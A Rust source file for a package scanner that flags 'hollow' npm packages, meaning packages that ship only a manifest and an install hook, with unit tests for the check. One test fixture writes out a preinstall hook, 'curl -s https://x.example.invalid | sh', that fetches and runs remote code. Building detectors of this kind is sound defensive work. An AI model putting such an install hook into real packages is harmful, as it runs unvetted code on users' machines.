//! Package detector for the hollow package: an npm package whose install scripts run something, while the
//! package ships no code of its own besides what those scripts run. Real packages with install hooks also ship
//! the library the hook builds or fetches for (`lib/`, `binding.gyp` with C sources, a `main` module); a
//! package that is only a manifest and a hook exists to run the hook.

use super::names::Manifest;
use skill_scan_classify::RootManifests;
use skill_scan_model::{Finding, PackageCheckKind};
use skill_scan_rules::RuleSet;
use std::collections::HashMap;

/// Extensions of files that are code a package could be for.
const CODE_EXTENSIONS: &[&str] = &[
    "js", "mjs", "cjs", "jsx", "ts", "mts", "cts", "tsx", "py", "c", "cc", "cpp", "cxx", "h",
    "hpp", "rs", "go", "node", "wasm", "gyp", "sh", "json5",
];

/// The hollow-package finding for one package, if it is one.
pub fn findings(
    rules: &RuleSet,
    manifests: &RootManifests,
    texts: &HashMap<String, String>,
    paths: &[&str],
) -> Vec<Finding> {
    let Some(npm) = &manifests.npm else {
        return Vec::new();
    };
    let mut scripts = npm.install_scripts();
    // `prepublish` runs when the author publishes (and, on old npm, in the author's own checkout); an
    // install of the published package does not run it.
    scripts.remove("prepublish");
    let Some((hook, command)) = scripts.iter().next() else {
        return Vec::new();
    };
    let commands: Vec<&str> = scripts.values().map(String::as_str).collect();
    let own_code = paths.iter().any(|path| {
        let is_code = path
            .rsplit_once('.')
            .is_some_and(|(_, ext)| CODE_EXTENSIONS.contains(&ext.to_ascii_lowercase().as_str()));
        is_code && !run_by(path, &commands)
    });
    // A `bin` or `main` file the package ships is its own code, whatever its name (`bin/tool`).
    let entry_shipped = npm
        .bin
        .iter()
        .chain(npm.main.iter())
        .map(|entry| entry.trim_start_matches("./"))
        .any(|entry| {
            paths
                .iter()
                .any(|p| *p == entry || *p == format!("{entry}.js"))
        });
    if own_code || entry_shipped {
        return Vec::new();
    }
    let message = format!(
        "the package ships no code of its own, yet its `{hook}` script runs `{}`",
        short(command)
    );
    let at = Manifest::new("package.json", texts);
    at.finding(rules, PackageCheckKind::HollowPackage, hook, message)
        .into_iter()
        .collect()
}

/// An install command names the file (`node scripts/setup.js`, `sh ./install.sh`).
fn run_by(path: &str, commands: &[&str]) -> bool {
    commands.iter().any(|command| {
        command.split_whitespace().any(|word| {
            let word = word.trim_matches(|c| matches!(c, '"' | '\'' | ';' | '&' | '|'));
            let word = word.strip_prefix("./").unwrap_or(word);
            !word.is_empty() && (word == path || format!("{word}.js") == path)
        })
    })
}

fn short(text: &str) -> String {
    if text.chars().count() > 80 {
        format!("{}…", text.chars().take(80).collect::<String>())
    } else {
        text.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hollow(package_json: &str, paths: &[&str]) -> Vec<Finding> {
        let rules = RuleSet::embedded(&crate::DETECTORS).unwrap();
        let mut texts = HashMap::new();
        texts.insert("package.json".to_string(), package_json.to_string());
        let manifests = RootManifests::read(texts.iter().map(|(p, t)| (p.as_str(), t.as_str())));
        findings(&rules, &manifests, &texts, paths)
    }

    #[test]
    fn a_manifest_and_its_hook_alone_is_hollow() {
        let pkg =
            r#"{"name":"x-utils","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#;
        let found = hollow(pkg, &["package.json", "setup.js", "README.md"]);
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].rule_id, "RCE038");
        assert!(found[0].message.contains("node setup.js"));
        let curl = r#"{"name":"x-utils","version":"1.0.0","scripts":{"preinstall":"curl -s https://x.example.invalid | sh"}}"#;
        assert_eq!(hollow(curl, &["package.json"]).len(), 1);
    }

    #[test]
    fn packages_with_their_own_code_or_without_hooks_are_not() {
        let pkg = r#"{"name":"x-utils","version":"1.0.0","main":"lib/index.js","scripts":{"postinstall":"node setup.js"}}"#;
        assert!(hollow(pkg, &["package.json", "setup.js", "lib/index.js"]).is_empty());
        let launcher = r#"{"name":"x-bin","version":"1.0.0","bin":{"x":"bin/x"},"scripts":{"postinstall":"sh scripts/fetch.sh"}}"#;
        assert!(hollow(launcher, &["package.json", "scripts/fetch.sh", "bin/x"]).is_empty());
        let native =
            r#"{"name":"x-native","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}}"#;
        assert!(hollow(native, &["package.json", "binding.gyp", "src/addon.cc"]).is_empty());
        let meta = r#"{"name":"x-meta","version":"1.0.0","dependencies":{"a":"1"}}"#;
        assert!(hollow(meta, &["package.json"]).is_empty());
        // A build step for the author's publish is not run by an install.
        let publish = r#"{"name":"x-apk","version":"1.0.0","scripts":{"prepublish":"gradle assembleRelease"}}"#;
        assert!(hollow(publish, &["package.json", "README.md"]).is_empty());
    }
}
